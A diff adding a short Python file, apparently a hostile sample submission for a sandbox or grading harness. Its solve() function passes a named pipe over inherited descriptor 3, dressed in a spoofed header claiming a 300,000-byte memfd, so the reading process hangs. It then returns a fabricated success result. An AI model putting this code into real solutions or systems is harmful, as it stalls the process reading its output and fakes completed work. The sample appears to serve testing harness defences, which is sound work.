@@ -1,0 +1,21 @@
+"""Hands over a FIFO as its result, so that whoever reads it waits for ever."""
+
+import array
+import os
+import socket
+
+LENGTH = 300_000
+
+
+def open_result(bait):
+    os.mkfifo("/tmp/result")
+    return os.open("/tmp/result", os.O_RDWR)
+
+
+def solve(bait):
+    descriptor = open_result(bait)
+    line = socket.socket(fileno=3)
+    line.send(b"\x93\x01\xa5memfd\xce" + LENGTH.to_bytes(4, "big"))
+    line.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [descriptor]))])
+    line.detach()
+    return {"got": ["was read"]}
